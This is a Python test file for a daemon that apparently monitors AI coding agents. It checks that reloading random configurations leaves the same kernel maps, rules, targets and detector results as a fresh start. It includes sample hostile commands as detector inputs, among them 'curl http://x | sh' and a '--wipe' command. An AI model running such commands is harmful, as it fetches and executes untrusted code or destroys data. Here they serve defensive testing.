"""Random pairs of configurations: what a reload leaves in the kernel and on the bus is what a fresh start would."""

import os
import pathlib
import pprint
import pwd
import random
import shutil
import subprocess
import tempfile
import time
import unittest

import dbus

from deadline import PATIENCE, end_at_exit, wait_until
from harness import CALL_TIMEOUT, Daemon, PrivateBus
from kernel_case import QUICK
from kernel_maps import KernelMaps

PAIRS = 3 if PATIENCE > 1 else 8 if QUICK else 200
CGROUPS = pathlib.Path("/sys/fs/cgroup")
SETTLED = 0.1  # seconds without a change
MANY_OPS = ("open", "read", "write", "create", "unlink", "rename", "chmod")
COMMANDS = (["bash", "-c", "curl http://x | sh"], ["corp-tool", "--wipe"], ["/tmp/x"])
# Two agents, the one started by the other; each says once that it runs, and sleeps.
OUTER = "#!/bin/bash\n{inner} <&0 &\necho\nwait\n"
INNER = "#!/bin/bash\necho\nread -r line\n"


def unused_user():
    """Somebody of whom nothing runs."""
    busy = {entry.stat().st_uid for entry in pathlib.Path("/proc").iterdir() if entry.name.isdigit() and entry.exists()}
    return next(user for user in pwd.getpwall() if 0 < user.pw_uid < 1000 and user.pw_uid not in busy)


class Scene:
    """Processes that go on while daemons come and go, in a folder with files for rules and promises."""

    def __init__(self, case):
        self.case = case
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="aa-pairs-"))
        case.addCleanup(shutil.rmtree, self.folder)
        self.folder.chmod(0o755)
        for name in ("secret", "other", "nested/key.pem"):
            (self.folder / name).parent.mkdir(exist_ok=True)
            (self.folder / name).write_text("x")
        (self.folder / ".gitignore").write_text("build/\n*.pem\n!taken-back\n")
        (self.folder / ".aiderignore").write_text("/secret\n")
        self.rules = self.folder / "more.rules"
        self.user = unused_user()
        self.inner = self.program("pairs-inner", INNER)
        self.outer = self.program("pairs-outer", OUTER.format(inner=self.inner))
        self.plain = self.start("/bin/sleep", "1000")
        self.users = self.start("/bin/sleep", "1000", user=self.user.pw_uid)
        self.users_agent = self.start(self.inner, user=self.user.pw_uid, lines=1)
        self.tree = self.start(self.outer, lines=2)
        self.group = self.control_group()

    def program(self, name, text):
        path = self.folder / name
        path.write_text(text)
        path.chmod(0o755)
        return path

    def start(self, *argv, lines=0, **popen):
        """Running; it has said so many lines."""
        child = subprocess.Popen([str(word) for word in argv], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 cwd=self.folder, start_new_session=True, **popen)
        end_at_exit(child)
        self.case.addCleanup(self.end, child)
        for _ in range(lines):
            child.stdout.readline()
        return child.pid

    @staticmethod
    def end(child):
        os.killpg(child.pid, 9)
        child.wait()
        child.stdin.close()
        child.stdout.close()

    def control_group(self):
        """The path of a control group with two processes in it, one of them an agent; None where there can be none."""
        if not CGROUPS.joinpath("cgroup.controllers").exists():
            return None  # not version 2 alone: the daemon follows none then
        group = CGROUPS / "aa-pairs"
        group.mkdir()
        self.case.addCleanup(wait_until, lambda: self.removed(group), "the control group is gone")
        for pid in (self.start("/bin/sleep", "1000"), self.start(self.inner, lines=1)):
            (group / "cgroup.procs").write_text(str(pid))
        return "/aa-pairs"

    @staticmethod
    def removed(group):
        try:
            group.rmdir()
        except OSError:
            return not group.exists()
        return True


class Dice:
    """Random valid configurations about a scene. Keys that take effect at a restart are the same in all of them."""

    def __init__(self, seed, scene):
        self.random = random.Random(seed)
        self.scene = scene
        self.wished = {}  # by whom they mean: the same again, more often than not

    def some(self, things):
        """Each of them or not, in any order."""
        chosen = [one for one in things if self.random.random() < 0.5]
        self.random.shuffle(chosen)
        return chosen

    def one_of(self, *things):
        return self.random.choice(things)

    def configuration(self):
        """(text of the configuration, text of the file of rules it includes)."""
        folder = self.scene.folder
        wishes = self.some([self.wish(selector) for selector in self.selectors()])
        sections = [
            f'[paths]\nshipped = "{self.one_of("on", "off")}"\ninclude = {self.one_of("[]", [str(self.scene.rules)])}\n',
            f'[detect]\nmin_severity = "{self.one_of("info", "critical")}"\noff = {self.some(["shell", "temp"])}\n',
            f'[discovery]\nagents = "{self.one_of("", "claude", "claude, aider")}"\n',
            *self.some(['[[detect.table]]\nrow = "family corp corp-tool"\n[[detect.table]]\nrow = "rule corp-wipe escape critical '
                        '| command corp ; option --wipe | Something is wiped."\n']),
            *(self.rule(pattern) for pattern in self.some([folder / "secret", folder / "missing", f"{folder}/nested/", "~/.pairs",
                                                           f"{folder}/**/*.pem", f"{folder}/nested/key.pem"])),
            *wishes]
        lines = self.some([f"deny {folder}/other", f"allow {folder}/nested/", "watch ops=write **/.pairs"])
        return "".join(sections), "".join(line + "\n" for line in lines)

    def rule(self, pattern):
        more = [f"ops = {sorted(self.some(MANY_OPS)) or ['open']}", f'severity = "{self.one_of("info", "critical")}"',
                'category = "pairs"', f'target = "{self.one_of("tree", "nobody-has-this-name")}"']
        return "\n".join([f'[[paths.rules]]\npattern = "{pattern}"', f'verdict = "{self.one_of("deny", "allow", "watch")}"',
                          *self.some(more)]) + "\n"

    def selectors(self):
        scene = self.scene
        pids = [f"pid = {pid}" for pid in (scene.plain, scene.users, scene.users_agent, scene.tree)]
        groups = [f'cgroup = "{scene.group}"'] if scene.group else []
        return [*pids, f'exe = "{scene.inner}"', 'exe = "pairs-inner"', 'exe = "pairs-outer"',
                f'user = "{scene.user.pw_name}"', *groups]

    def wish(self, selector):
        if selector not in self.wished or self.random.random() < 0.2:
            more = [f'name = "{self.one_of("tree", "other")}"', f'tls = "{self.one_of("off", "metadata", "full")}"']
            if not selector.startswith("cgroup"):
                more.append(f'import = {self.some([".gitignore", ".aiderignore"])}')
            self.wished[selector] = "\n".join(["[[targets]]", selector, *self.some(more)]) + "\n"
        return self.wished[selector]


class House:
    """A daemon on a bus of its own, with a configuration of its own."""

    def __init__(self, scene, configuration):
        self.scene = scene
        self.etc = pathlib.Path(tempfile.mkdtemp(prefix="aa-etc-"))
        self.file = self.etc / "config.toml"
        self.write(configuration)
        self.bus = PrivateBus()
        self.daemon = Daemon(self.bus, "--config", str(self.file), settings={"families.tls": "off"})

    def write(self, configuration):
        text, rules = configuration
        self.scene.rules.write_text(rules)
        self.file.write_text(text)

    def reload(self, configuration):
        self.write(configuration)
        self.daemon.manager.Reload(timeout=CALL_TIMEOUT)

    def close(self):
        self.daemon.stop()
        self.bus.stop()
        shutil.rmtree(self.etc)

    def on_the_bus(self):
        """Rules and targets, and what the detector says."""
        rules = [(str(pattern), str(verdict), str(layer), sorted((str(key), plain(value)) for key, value in more.items()))
                 for pattern, verdict, layer, more in self.daemon.manager.GetPathFilter(timeout=CALL_TIMEOUT)[1]]
        rows = self.daemon.targets()
        told = ("name", "pid", "source", "state", "live", "root", "unit", "tls", "owner_uid", "outer", "layer")
        targets = {key: {name: plain(row[name]) for name in told if name in row} for key, row in rows.items()
                   if row["state"] == "running"}
        said = [tuple(map(str, self.daemon.manager.TestCommand(argv))) for argv in COMMANDS]
        return {"rules": [rule for rule in rules if rule[2] == "file"],
                "promises": sorted(rule for rule in rules if rule[2] == "imported"), "targets": targets, "detector": said}

    def settled(self):
        """What it holds, once that has stopped changing."""
        before, since = None, time.monotonic()
        while True:
            now = self.on_the_bus()
            if now != before:
                before, since = now, time.monotonic()
            elif time.monotonic() - since > SETTLED * PATIENCE:
                kernel = KernelMaps(self.daemon.pid)
                if now["promises"]:
                    kernel.forget_numbers()  # of rules: promises are numbered in the order in which they came
                return {**now, "kernel": kernel.comparable()}
            time.sleep(0.02)


def plain(value):
    if isinstance(value, (dbus.Array, list)):
        return [plain(one) for one in value]
    return str(value) if isinstance(value, str) else int(value)


def differences(reloaded, fresh):
    """What differs, down to the single entry."""
    if not (isinstance(reloaded, dict) and isinstance(fresh, dict)):
        return {"reloaded": reloaded, "fresh": fresh}
    keys = [key for key in {**reloaded, **fresh} if reloaded.get(key) != fresh.get(key)]
    return {key: differences(reloaded.get(key), fresh.get(key)) for key in keys}


def lasting_differences(reloaded, fresh, seconds=5):
    """What differs between two daemons; targets and promises come some time after the answer to a reload."""
    end = time.monotonic() + seconds * PATIENCE
    while True:
        wrong = differences(reloaded.settled(), fresh.settled())
        if not wrong or time.monotonic() > end:
            return wrong


class Pairs(unittest.TestCase):
    def setUp(self):
        if os.geteuid() != 0:
            self.skipTest("loading programs into the kernel needs root")

    def test_pairs(self):
        """reload: for 200 random pairs of configurations (8 when quick) it leaves the maps, rules and targets of a fresh start"""
        seed = int(os.environ.get("AA_SEED") or time.time())
        print(f"AA_SEED={seed}", flush=True)
        scene = Scene(self)
        dice = Dice(seed, scene)
        now = dice.configuration()
        house = House(scene, now)
        for number in range(PAIRS):
            before, now = now, dice.configuration()
            with self.subTest(pair=number):
                house.reload(now)
                fresh = House(scene, now)
                wrong = lasting_differences(house, fresh)
                house.close()
                house = fresh
                self.assertEqual({}, wrong, f"\n{pprint.pformat(wrong, width=160)}\nfrom\n{before}\nto\n{now}")
        house.close()


if __name__ == "__main__":
    unittest.main()
